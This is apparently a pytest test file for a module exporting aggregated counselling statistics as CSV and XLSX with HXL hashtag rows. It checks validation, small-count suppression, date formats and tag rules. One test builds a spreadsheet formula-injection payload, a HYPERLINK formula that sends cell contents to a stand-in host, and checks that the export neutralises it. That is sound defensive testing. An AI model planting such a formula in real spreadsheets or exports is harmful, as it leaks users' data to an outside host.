"""CSV and XLSX downloads: libhxl reads them back, finds the hashtag row and validates them."""

from __future__ import annotations

import datetime as dt
import io
import sys
import types
from typing import Any

import pytest
from openpyxl import load_workbook

from wapsi.stats.exports import Column, csv_bytes, hxl_tag_check, xlsx_bytes


def _hxl() -> Any:
    """libhxl 5.2 imports ``six`` (for ``six.string_types`` only) without declaring it, and
    python-dateutil 4 no longer brings it in: stand in for it when it is missing."""
    if "six" not in sys.modules:
        try:
            import six  # noqa: F401
        except ImportError:
            shim = types.ModuleType("six")
            shim.string_types = (str,)  # type: ignore[attr-defined]
            sys.modules["six"] = shim
    import hxl

    return hxl


hxl = _hxl()

COLUMNS = [
    Column("Month", "#date", "date"),
    Column("Country", "#country+code", "text"),
    Column("District", "#adm2+name", "text"),
    Column("Women counselled", "#reached+f", "number"),
    Column("Men counselled", "#reached+m", "number"),
    Column("Mean score", "#indicator+num", "number"),
]
ROWS: list[list[Any]] = [
    [dt.date(2026, 1, 1), "PK", "Attock", 12, 31, 61.5],
    ["2026-02", "PK", "Jhelum", None, 25, 58.0],
    ["2026", "IQ", "Erbil", 15, None, None],
]


def read(data: bytes) -> Any:
    return hxl.data(io.BytesIO(data))


def problems(dataset: Any) -> list[tuple[str, str, str]]:
    found: list[Any] = []
    dataset.validate(callback=found.append)
    return [(e.rule.severity, e.message, e.value) for e in found]


@pytest.fixture(params=["csv", "xlsx"])
def download(request: pytest.FixtureRequest) -> bytes:
    if request.param == "csv":
        return csv_bytes(COLUMNS, ROWS)
    return xlsx_bytes(COLUMNS, ROWS, sheet_title="Sessions", notes=["Cells under 10 are hidden."])


def test_libhxl_finds_the_hashtag_row_under_the_header(download: bytes) -> None:
    dataset = read(download)
    assert [c.display_tag for c in dataset.columns] == [
        "#date",
        "#country+code",
        "#adm2+name",
        "#reached+f",
        "#reached+m",
        "#indicator+num",
        "#meta",
    ]
    # libhxl keeps the CSV's byte-order mark in the first header's text (not in its tag).
    assert [c.header.lstrip("\ufeff") for c in dataset.columns][:2] == ["Month", "Country"]
    assert len(list(dataset)) == 3


def test_default_schema_passes_dates_are_dates_counts_are_numbers(download: bytes) -> None:
    dataset = read(download)
    assert problems(dataset) == []
    assert dataset.validate() is True


def test_the_validation_would_catch_a_label_in_a_count_column() -> None:
    """The check above can fail: "<10" in a count column, or a loose date, is an error."""
    body = b"Month,Women\n#date,#reached+f\n2026-01-01,<10\nsoon,12\n"
    assert [p[1] for p in problems(read(body))] == ["Expected a number", "Expected a date"]


def test_suppressed_cells_are_empty_and_named_in_the_meta_column(download: bytes) -> None:
    rows = [row.values for row in read(download)]
    women = [row[3] for row in rows]
    men = [row[4] for row in rows]
    assert women[1] in ("", None) and men[2] in ("", None)
    assert str(women[0]) == "12" and str(men[1]) == "25"
    assert rows[0][6] in ("", None)
    assert rows[1][6] == "Hidden to protect small counts: Women counselled"
    assert rows[2][6] == "Hidden to protect small counts: Men counselled; Mean score"
    # No number stands where a figure was hidden, and no "<10" either.
    for row in rows:
        assert "<10" not in [str(v) for v in row]


def test_dates_are_iso_8601_in_csv_and_date_cells_in_xlsx() -> None:
    text = csv_bytes(COLUMNS, ROWS).decode("utf-8-sig")
    assert text.splitlines()[2].startswith("2026-01-01,PK,Attock,12,31,61.5")
    book = load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, ROWS, sheet_title="x")))
    sheet = book.worksheets[0]
    assert sheet["A3"].value == dt.datetime(2026, 1, 1)
    assert sheet["A3"].number_format == "yyyy-mm-dd"
    assert sheet["D3"].value == 12 and sheet["D3"].data_type == "n"
    assert sheet["D4"].value is None


def test_csv_is_utf8_with_a_byte_order_mark_for_excel() -> None:
    columns = [Column("ضلع", "#adm2+name", "text"), Column("خواتین", "#reached+f", "number")]
    data = csv_bytes(columns, [["اٹک", 12]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0] == "ضلع,خواتین,Hidden cells"
    assert [r.values[:2] for r in read(data)] == [["اٹک", "12"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.example/?"&A1)'
    columns = [Column("District", "#adm2+name", "text"), Column("Women", "#reached+f", "number")]
    text = csv_bytes(columns, [[evil, 12]]).decode("utf-8-sig")
    assert "\n'" + start in text.replace("\r\n", "\n") or f"\"'{start}" in text
    book = load_workbook(io.BytesIO(xlsx_bytes(columns, [[evil, 12]], sheet_title="x")))
    cell = book.worksheets[0]["A3"]
    assert cell.data_type == "s"
    assert cell.value == "'" + evil


def test_a_formula_header_or_note_is_neutralised_too() -> None:
    columns = [Column("=SUM(A1)", "#reached", "number")]
    data = xlsx_bytes(columns, [[1]], sheet_title="x", notes=["@note", "Plain note"])
    book = load_workbook(io.BytesIO(data))
    assert book.worksheets[0]["A1"].value == "'=SUM(A1)"
    notes = book.worksheets[1]
    assert [notes["A1"].value, notes["A2"].value] == ["'@note", "Plain note"]
    assert csv_bytes(columns, [[1]]).decode("utf-8-sig").startswith("'=SUM(A1)")


def test_notes_sit_on_their_own_sheet_outside_the_data() -> None:
    data = xlsx_bytes(COLUMNS, ROWS, sheet_title="Sessions: 2026/01", notes=["Method: ..."])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Sessions  2026 01", "Notes"]
    assert book.worksheets[0].max_row == 2 + len(ROWS)
    assert load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, ROWS, sheet_title="x"))).sheetnames == ["x"]


@pytest.mark.parametrize(
    "tag",
    ["#date", "#country+code", "#adm1+name", "#adm2+code", "#org+name", "#sector",
     "#reached+f+adults", "#reached+m+adolescents", "#affected", "#indicator+num", "#meta"],
)  # fmt: skip
def test_tags_from_the_hxl_dictionary_are_accepted(tag: str) -> None:
    hxl_tag_check(tag)


@pytest.mark.parametrize(
    "tag", ["#returnees", "#reached+returning", "#indicator+value", "date", "#Date", "#reached+"]
)
def test_tags_outside_the_dictionary_are_refused(tag: str) -> None:
    with pytest.raises(ValueError):
        Column("x", tag, "number")


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("number", "12"),
        ("number", True),
        ("date", "March 2026"),
        ("date", "2026-13"),
        ("date", "2026-Q1"),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused(kind: str, value: Any) -> None:
    columns = [Column("x", "#date" if kind == "date" else "#reached", kind)]  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        csv_bytes(columns, [[value]])


def test_a_row_of_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError):
        csv_bytes(COLUMNS, [[1, 2]])
